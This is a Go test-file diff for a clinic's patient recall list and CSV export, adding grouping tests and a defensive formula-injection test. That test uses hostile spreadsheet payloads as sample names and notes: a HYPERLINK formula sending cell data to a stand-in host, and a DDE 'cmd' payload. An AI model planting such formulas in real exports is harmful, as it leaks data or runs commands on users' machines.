@@ -4,7 +4,6 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
-	"reflect"
 	"strings"
 	"testing"
 	"time"
@@ -133,7 +132,7 @@ func TestRecallCSV(t *testing.T) {
 	if err := data.RecallCSV(&buf, list); err != nil {
 		t.Fatal(err)
 	}
-	if got, want := buf.String(), `"O'Brien, ""Zo""",+44 7700 900123,yes,`; !strings.Contains(got, want) {
+	if got, want := buf.String(), `"O'Brien, ""Zo""",'+44 7700 900123,yes,`; !strings.Contains(got, want) {
 		t.Errorf("CSV =\n%s\nwant it to contain %s", got, want)
 	}
 	rows, err := csv.NewReader(&buf).ReadAll()
@@ -143,7 +142,7 @@ func TestRecallCSV(t *testing.T) {
 	if len(rows) != 2 {
 		t.Fatalf("rows = %q, want header and one row", rows)
 	}
-	want := []string{`O'Brien, "Zo"`, "+44 7700 900123", "yes", list[0].Reason, "2026-11-25", "3", "2026-11-27 16:05", "Said \"call back\"\nafter 5"}
+	want := []string{`O'Brien, "Zo"`, "'+44 7700 900123", "yes", list[0].Reason, "2026-11-25", "3", "2026-11-27 16:05", "Said \"call back\"\nafter 5"}
 	for i := range want {
 		if rows[1][i] != want[i] {
 			t.Errorf("column %s = %q, want %q", rows[0][i], rows[1][i], want[i])
@@ -204,9 +203,10 @@ func TestRecallReviews(t *testing.T) {
 	}
 }
 
-// TestRecallCalls: the latest call about an entry is shown, a call about
-// another series of the same patient is not, and archived patients are
-// never listed.
+// TestRecallCalls: a patient with two series due is one entry with both
+// reasons, showing the latest call about either; a call about several
+// reasons at once belongs to no series; archived patients are never
+// listed.
 func TestRecallCalls(t *testing.T) {
 	ctx := context.Background()
 	c := mustClinic(t)
@@ -221,24 +221,120 @@ func TestRecallCalls(t *testing.T) {
 	if err := c.s.ArchivePatient(ctx, gone.ID, gone.Version, "Moved abroad"); err != nil {
 		t.Fatal(err)
 	}
-	for _, note := range []string{"No answer", "Will ring back on Monday"} {
-		c.signIn(c.receptionist)
-		if err := c.s.MarkCalled(ctx, c.patient.ID, first.ID, c.receptionist.ID, note); err != nil {
+	recall := func() data.RecallEntry {
+		t.Helper()
+		list, err := c.s.Recall(ctx, fixedNow)
+		if err != nil {
 			t.Fatal(err)
 		}
+		if len(list) != 1 || list[0].PatientID != c.patient.ID {
+			t.Fatalf("Recall() = %+v, want %s once", list, c.patient.FullName())
+		}
+		return list[0]
 	}
+	c.signIn(c.receptionist)
+	for _, call := range []struct {
+		series int64
+		note   string
+	}{{first.ID, "No answer"}, {second.ID, "Will ring back on Monday"}} {
+		if err := c.s.MarkCalled(ctx, c.patient.ID, call.series, c.receptionist.ID, call.note); err != nil {
+			t.Fatal(err)
+		}
+		c.s.Now = func() time.Time { return fixedNow.Add(time.Minute) }
+	}
+	e := recall()
+	if e.SeriesID != 0 || e.LastCallNote != "Will ring back on Monday" {
+		t.Errorf("entry = %+v, want no one series and the latest call", e)
+	}
+	c.s.Now = func() time.Time { return fixedNow.Add(time.Hour) }
+	if err := c.s.MarkCalled(ctx, c.patient.ID, e.SeriesID, c.receptionist.ID, "Booked both"); err != nil {
+		t.Fatal(err)
+	}
+	if e := recall(); e.LastCallNote != "Booked both" {
+		t.Errorf("after a call about the whole entry: %+v", e)
+	}
+}
+
+// TestRecallOnePerPatient: a patient with several reasons (two series due,
+// a missed appointment) is listed once, by the most urgent reason, with
+// every reason, and the count is of patients.
+func TestRecallOnePerPatient(t *testing.T) {
+	ctx := context.Background()
+	c := mustClinic(t)
+	older := mustTreated(t, c, c.patient, date(2026, 9, 30)) // overdue since 28 Oct
+	mustTreated(t, c, c.patient, date(2026, 10, 28))         // due since 25 Nov
+	missed := mustBook(t, c, data.Appointment{Kind: data.KindConsultation, PatientID: c.patient.ID,
+		PractitionerID: c.practitioner.ID, Start: time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)})
+	if err := c.s.SetStatus(ctx, missed.ID, missed.Version, data.StatusNoShow, ""); err != nil {
+		t.Fatal(err)
+	}
+	other := mustPatient(t, c, "Ada", "Lovelace", "+44 7700 900111")
+	mustTreated(t, c, other, date(2026, 10, 14)) // overdue since 11 Nov
+
 	list, err := c.s.Recall(ctx, fixedNow)
 	if err != nil {
 		t.Fatal(err)
 	}
-	notes := map[int64]string{}
-	for _, e := range list {
-		if e.PatientID != c.patient.ID {
-			t.Errorf("archived or unknown patient listed: %+v", e)
-		}
-		notes[e.SeriesID] = e.LastCallNote
+	if len(list) != 2 {
+		t.Fatalf("Recall() = %+v, want 2 patients", list)
 	}
-	if got, want := notes, map[int64]string{first.ID: "Will ring back on Monday", second.ID: ""}; !reflect.DeepEqual(got, want) {
-		t.Errorf("call notes by series = %v, want %v", got, want)
+	e := list[0]
+	if e.PatientID != c.patient.ID || e.Urgency != 31 || !e.Since.Equal(date(2026, 10, 28)) || e.SeriesID != 0 {
+		t.Errorf("first entry = %+v, want %s by the session overdue since 28 Oct", e, c.patient.FullName())
+	}
+	reasons := strings.Split(e.Reason, "; ")
+	for i, want := range []string{"Session 2 of 3 overdue: due 28 Oct 2026", "Did not attend the consultation on 24 Nov 2026",
+		"Session 2 of 3 due since 25 Nov 2026"} {
+		if i >= len(reasons) || !strings.HasPrefix(reasons[i], want) {
+			t.Errorf("reason %d of %q, want %q", i, e.Reason, want)
+		}
+	}
+	if e := list[1]; e.PatientID != other.ID {
+		t.Errorf("second entry = %+v, want %s", e, other.FullName())
+	}
+	c.signIn(c.receptionist)
+	if err := c.s.MarkCalled(ctx, c.patient.ID, older.ID, c.receptionist.ID, "Left a message"); err != nil {
+		t.Fatal(err)
+	}
+	if list, err := c.s.Recall(ctx, fixedNow); err != nil || len(list) != 2 || list[0].LastCallNote != "Left a message" {
+		t.Errorf("after a call about one reason: %+v, %v", list, err)
+	}
+}
+
+// TestRecallCSVFormulaInjection: a name or note that a spreadsheet would
+// run as a formula is exported as text, whatever it starts with.
+func TestRecallCSVFormulaInjection(t *testing.T) {
+	ctx := context.Background()
+	c := mustClinic(t)
+	p := validPatient()
+	p.FirstName, p.LastName = `=HYPERLINK("http://x.example/?"&A1`, `"Call me")`
+	p = mustCreate(t, c.s, p)
+	ts := mustTreated(t, c, p, date(2026, 10, 28))
+	c.signIn(c.receptionist)
+	for i, note := range []string{"@SUM(1+1)*cmd|' /C calc'!A0", " =1+1", "-2+3", "+44 7700 900123"} {
+		c.s.Now = func() time.Time { return fixedNow.Add(time.Duration(i) * time.Minute) }
+		if err := c.s.MarkCalled(ctx, p.ID, ts.ID, c.receptionist.ID, note); err != nil {
+			t.Fatal(err)
+		}
+		list, err := c.s.Recall(ctx, fixedNow)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var buf bytes.Buffer
+		if err := data.RecallCSV(&buf, list); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("CSV rows = %q, %v", rows, err)
+		}
+		for i, cell := range rows[1] {
+			if trimmed := strings.TrimLeft(cell, " "); trimmed != "" && strings.ContainsRune("=+-@\t\r", rune(trimmed[0])) {
+				t.Errorf("column %s = %q, a spreadsheet would run it", rows[0][i], cell)
+			}
+		}
+		if got, want := rows[1][7], "'"+strings.TrimSpace(note); got != want {
+			t.Errorf("call note = %q, want %q", got, want)
+		}
 	}
 }
